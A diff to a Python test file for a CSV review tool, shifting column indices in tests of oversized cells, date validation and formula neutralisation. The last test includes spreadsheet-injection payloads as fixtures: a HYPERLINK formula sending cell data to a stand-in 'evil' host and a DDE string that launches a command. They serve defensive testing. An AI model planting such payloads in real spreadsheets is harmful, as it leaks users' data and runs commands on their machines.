@@ -20,7 +20,7 @@ def _review(toy_env, rows) -> tuple[int, str]:  # noqa: F811
 
 def test_rv_huge_cell_a_long_note_is_read(toy_env) -> None:  # noqa: F811
     rows = accept_all(toy_env["records"][:1])
-    rows[0][5] = "n" * 200_000  # past Python csv's 131,072-character field limit
+    rows[0][6] = "n" * 200_000  # past Python csv's 131,072-character field limit
     code, out = _review(toy_env, rows)
     assert code == 0, out
 
@@ -38,7 +38,7 @@ def test_rv_nul_a_nul_byte_is_one_located_error(toy_env) -> None:  # noqa: F811
 )
 def test_a_date_that_is_not_a_past_yyyy_mm_dd_is_refused(toy_env, day, case) -> None:  # noqa: F811
     rows = accept_all(toy_env["records"][:1])
-    rows[0][4] = day
+    rows[0][5] = day
     code, out = _review(toy_env, rows)
     assert code == 2, (case, out)
     assert "line 2, field 'date': expected a date YYYY-MM-DD, not in the future" in out
@@ -48,7 +48,7 @@ def test_rv_formula_cells_of_review_csv_are_neutralised(toy_env) -> None:  # noq
     rows = accept_all(toy_env["records"][:2])
     rows[0][3] = '=HYPERLINK("http://evil/?"&A1,"x")'
     rows[1][3] = "+cmd|' /C calc'!A0"
-    rows[1][5] = "@SUM(A1:A2)"
+    rows[1][6] = "@SUM(A1:A2)"
     code, out = _review(toy_env, rows)
     assert code == 0, out
     sheet = toy_env["tmp"] / "s" / "review.csv"
